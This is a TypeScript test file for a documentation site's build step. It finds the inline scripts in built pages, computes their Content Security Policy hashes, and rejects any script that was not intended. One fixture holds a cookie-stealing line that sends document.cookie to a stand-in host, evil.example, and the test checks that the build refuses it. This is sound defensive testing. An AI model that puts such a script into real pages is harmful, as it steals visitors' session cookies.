import {test} from 'node:test';
import assert from 'node:assert/strict';
import {execFileSync} from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import themeClassic from '@docusaurus/theme-classic';
import type {LoadContext} from '@docusaurus/types';
import {startScript} from '../../plugins/performance/start-after-paint';
import {baseUrlBannerScript, cspHash, findInlineScripts, intendedInlineScriptHashes} from '../../scripts/inline-scripts';

/** The theme's inline script as theme-classic writes it for this site's colour-mode settings. */
function siteThemeScript(namespace: string): string {
  const context = {
    i18n: {currentLocale: 'en', localeConfigs: {en: {direction: 'ltr'}}},
    siteStorage: {type: 'localStorage', namespace},
    siteConfig: {
      themeConfig: {
        colorMode: {defaultMode: 'light', disableSwitch: false, respectPrefersColorScheme: false},
        announcementBar: {},
        prism: {},
      },
    },
    siteDir: '.',
  } as unknown as LoadContext;
  const tags = themeClassic(context, {customCss: []} as never).injectHtmlTags?.({content: undefined});
  const tag = (tags as {preBodyTags: {tagName: string; innerHTML: string}[]}).preBodyTags.find((t) => t.tagName === 'script');
  return tag!.innerHTML;
}

/** A page as the production build writes it: minified by Docusaurus' SWC HTML minifier. */
function builtPage(body: string): string {
  const minifier = path.resolve(__dirname, '../../scripts/minify-html.cjs');
  return execFileSync(process.execPath, [minifier, 'swc'], {
    input: `<!doctype html><html><head></head><body>${body}</body></html>`,
    encoding: 'utf8',
  });
}

function site(pages: Record<string, string>): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'site-'));
  for (const [file, html] of Object.entries(pages)) {
    fs.mkdirSync(path.dirname(path.join(dir, file)), {recursive: true});
    fs.writeFileSync(path.join(dir, file), html);
  }
  return dir;
}

const intendedBody = (namespace: string) => `<script>${siteThemeScript(namespace)}</script><p>Text</p><script>${startScript}</script>`;

test('the theme script and the start-after-paint script, as the build minifies them, are recognised and hashed', () => {
  const en = builtPage(intendedBody('-604'));
  const de = builtPage(intendedBody('-742'));
  const root = site({'index.html': en, 'docs/index.html': en, 'de/index.html': de});
  const scripts = [...findInlineScripts(root).keys()];
  assert.equal(scripts.length, 3, 'the theme script differs per locale (storage namespace); the start script is the same');
  assert.ok(!scripts.includes(startScript), 'the fixture holds the minified start script, not its source');
  assert.deepEqual(intendedInlineScriptHashes(root), scripts.map(cspHash).sort());
});

test("the home pages' base-URL banner (SPEC §8) is recognised for each locale's base URL, and only for those", () => {
  const banner = (baseUrl: string) => `<script data-rh=true>${baseUrlBannerScript(baseUrl)}</script>`;
  assert.match(baseUrlBannerScript('/de/'), /did not load properly[\s\S]*\/de\//);
  const root = site({'index.html': builtPage(banner('/')), 'de/index.html': builtPage(banner('/de/'))});
  assert.equal(intendedInlineScriptHashes(root).length, 2);
  const other = site({'index.html': builtPage(banner('/docs/'))});
  assert.throws(() => intendedInlineScriptHashes(other), /index\.html/);
});

test('external scripts and JSON-LD data are not inline scripts', () => {
  const root = site({
    'index.html':
      '<html><head><script src=/assets/js/main.js defer></script><script data-rh=true type=application/ld+json>{"a":1}</script></head><body><script></script></body></html>',
  });
  assert.equal(findInlineScripts(root).size, 0);
  assert.deepEqual(intendedInlineScriptHashes(root), []);
});

test('any other inline script stops the rendering, naming the files that hold it', () => {
  const root = site({
    'index.html': builtPage(intendedBody('-604')),
    'docs/srb/welcome/index.html': builtPage(`${intendedBody('-604')}<script>fetch("https://evil.example/?"+document.cookie)</script>`),
    'blog/index.html': builtPage('<script type=module>import("/x.js")</script>'),
  });
  assert.throws(
    () => intendedInlineScriptHashes(root),
    (error: Error) => {
      assert.match(error.message, /docs\/srb\/welcome\/index\.html: fetch\("https:\/\/evil\.example/);
      assert.match(error.message, /blog\/index\.html: import\("\/x\.js"\)/);
      assert.doesNotMatch(error.message, /^- index\.html/m);
      return true;
    },
  );
});

test('a changed start script is not mistaken for the intended one', () => {
  const root = site({'index.html': builtPage(`<script>${startScript.replace('3000', '30')}</script>`)});
  assert.throws(() => intendedInlineScriptHashes(root), /index\.html/);
});
